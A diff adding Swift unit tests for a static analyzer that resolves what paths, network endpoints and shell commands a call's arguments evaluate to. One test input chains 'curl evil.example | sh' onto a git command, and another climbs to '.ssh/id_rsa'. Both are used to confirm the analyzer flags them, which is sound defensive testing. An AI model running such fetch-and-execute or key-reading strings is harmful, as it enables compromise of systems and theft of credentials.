@@ -1,0 +1,100 @@
+@testable import CapCheckValues
+import CapCheckModel
+import Foundation
+import SwiftSyntax
+import XCTest
+
+/// The value analysis inside one Swift file: what a sink's argument resolves to (issue 12). Milliseconds, no toolchain.
+final class SwiftExpressionValuesTests: XCTestCase {
+    /// The values of the first argument of the call of `open` in `source`.
+    private func values(_ source: String) throws -> [String] {
+        let path = FileManager.default.temporaryDirectory.appendingPathComponent("values-\(UUID().uuidString).swift").path
+        try source.write(toFile: path, atomically: true, encoding: .utf8)
+        defer { try? FileManager.default.removeItem(atPath: path) }
+        let file = try XCTUnwrap(ParsedSwiftFiles().file(path))
+        let token = try XCTUnwrap(file.tree.tokens(viewMode: .sourceAccurate).first { $0.text == "open" && $0.parent?.parent?.is(FunctionCallExprSyntax.self) == true })
+        let site = try XCTUnwrap(SwiftSinkSite(token: token))
+        let resolver = SwiftExpressionValues(file: file) { _, _ in nil }
+        return site.values(rule: .positions([0]), resolver: resolver, at: file.location(of: token)).map(describe)
+    }
+
+    private func describe(_ origin: ValueOrigin) -> String {
+        switch origin {
+        case .constant(let value, _): return "constant \(value)"
+        case .prefix(let value, _): return "prefix \(value)"
+        case .unknown(let why, _): return "unknown \(why)"
+        case .parameter(let index, let name, _): return "parameter \(index) \(name)"
+        case .caller(let supplier, _, _, _): return "caller \(supplier)"
+        }
+    }
+
+    func testLiteralsInterpolationsAndConcatenation() throws {
+        XCTAssertEqual(try values(#"func f() { open("/etc/hosts") }"#), ["constant /etc/hosts"])
+        XCTAssertEqual(try values(#"func f() { let dir = "/etc"; open("\(dir)/hosts") }"#), ["constant /etc/hosts"])
+        XCTAssertEqual(try values(#"func f(x: Int) { open("/tmp/\(x).log") }"#), ["prefix /tmp/"])
+        XCTAssertEqual(try values(#"func f() { open("/etc/" + "ssl/" + "cert.pem") }"#), ["constant /etc/ssl/cert.pem"])
+        XCTAssertEqual(try values(#"func f(flag: Bool) { open(flag ? "/a" : "/b") }"#), ["constant /a", "constant /b"])
+        XCTAssertEqual(try values(#"func f(x: String?) { open(x ?? "/default") }"#), ["parameter 0 x", "constant /default"])
+        XCTAssertEqual(try values(#"func f() { open("/tmp/a\nb") }"#).first?.hasPrefix("unknown"), true, "escapes are not decoded")
+    }
+
+    func testPathsBuiltWithURLKeepTheirText() throws {
+        XCTAssertEqual(try values(#"func f() { open(URL(fileURLWithPath: "/etc").appendingPathComponent("hosts").path) }"#),
+                       ["constant /etc/hosts"])
+        XCTAssertEqual(try values(#"func f(name: String) { open(URL(fileURLWithPath: "/etc/ssl").appending(path: name)) }"#),
+                       ["prefix /etc/ssl/"])
+        XCTAssertEqual(try values(#"func f(dir: String) { open(URL(fileURLWithPath: dir).appendingPathComponent("config.json")) }"#),
+                       ["parameter 0 dir"], "the caller's folder with a fixed name below it stays the caller's")
+        XCTAssertEqual(try values(#"func f(dir: String) { open(dir + "/../../.ssh/id_rsa") }"#).first?.hasPrefix("unknown"), true,
+                       "a constant that climbs out of the caller's folder is not the caller's value")
+    }
+
+    func testNamesResolveByScope() throws {
+        XCTAssertEqual(try values(#"enum E { static let path = "/etc/a"; static func f() { open(path) } }"#), ["constant /etc/a"])
+        XCTAssertEqual(try values(#"enum E { static let path = "/etc/a"; static func f() { open(Self.path) } }"#), ["constant /etc/a"])
+        XCTAssertEqual(try values(#"let root = "/srv"; func f() { open(root + "/x") }"#), ["constant /srv/x"])
+        XCTAssertEqual(try values(#"func f() { var p = "/a"; p = "/b"; open(p) }"#).first?.hasPrefix("unknown"), true)
+        XCTAssertEqual(try values(#"func f(_ a: Int, path p: String) { open(p) }"#), ["parameter 1 p"])
+        XCTAssertEqual(try values(#"func f(p: String?) { if let q = p { open(q) } }"#), ["parameter 0 p"])
+        XCTAssertEqual(try values(#"func f(p: String?) { guard let p else { return }; open(p) }"#), ["parameter 0 p"])
+        XCTAssertEqual(try values(#"func f(all: [String]) { for p in all { open(p) } }"#).first?.hasPrefix("unknown"), true)
+        XCTAssertEqual(try values(#"func f() { ["/a"].forEach { open($0) } }"#).first?.hasPrefix("unknown"), true)
+        XCTAssertEqual(try values(#"struct S { let p: String; func f() { open(p) } }"#).first?.hasPrefix("unknown"), true,
+                       "a stored property set at run time")
+        XCTAssertEqual(try values(#"func f() { open(readLine()!) }"#).first?.hasPrefix("unknown"), true)
+    }
+
+    func testNetworkValuesAreHostAndPort() {
+        let at = SourceLocation(file: "f", line: 1, column: 1)
+        func endpoint(_ origin: ValueOrigin) -> String {
+            switch NetworkEndpoint.endpoint(origin) {
+            case .constant(let value, _): return "constant \(value)"
+            case .prefix(let value, _): return "prefix \(value)"
+            default: return "unknown"
+            }
+        }
+        XCTAssertEqual(endpoint(.constant("https://api.example.com/v1", at)), "constant api.example.com:443")
+        XCTAssertEqual(endpoint(.constant("http://user@10.0.0.7:8080/x", at)), "constant 10.0.0.7:8080")
+        XCTAssertEqual(endpoint(.constant("example.com", at)), "prefix example.com:")
+        XCTAssertEqual(endpoint(.constant("[::1]:443", at)), "constant [::1]:443")
+        XCTAssertEqual(endpoint(.prefix("https://api.example.com/", at)), "constant api.example.com:443")
+        XCTAssertEqual(endpoint(.prefix("https://api.exam", at)), "unknown", "the host itself is cut off")
+    }
+
+    func testShellCommandsNameTheirProgramOnlyWhenPlain() {
+        let at = SourceLocation(file: "f", line: 1, column: 1)
+        XCTAssertEqual(ShellCommand.program(.constant("/usr/bin/git status", at)), .constant("/usr/bin/git", at))
+        if case .constant = ShellCommand.program(.constant("git status; curl evil.example | sh", at)) { XCTFail("shell syntax") }
+    }
+
+    func testSinkArgumentRules() {
+        XCTAssertEqual(SinkArgumentRule.rule(capability: .env, sink: "getenv"), .positions([0]))
+        XCTAssertEqual(SinkArgumentRule.rule(capability: .env, sink: "Foundation.ProcessInfo.environment"), .environmentKey)
+        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "openat"), .positions([1]))
+        XCTAssertEqual(SinkArgumentRule.rule(capability: .fs, sink: "rename"), .positions([0, 1]))
+        XCTAssertEqual(SinkArgumentRule.rule(capability: .exec, sink: "posix_spawn"), .positions([1]))
+        XCTAssertEqual(SinkArgumentRule.rule(capability: .exec, sink: "Foundation.Process.run()"), .programOfReceiver)
+        if case .none = SinkArgumentRule.rule(capability: .net, sink: "connect") {} else { XCTFail("connect's address is not followed") }
+        if case .none = SinkArgumentRule.rule(capability: .fs, sink: "fchmod") {} else { XCTFail("a descriptor names no path") }
+    }
+}
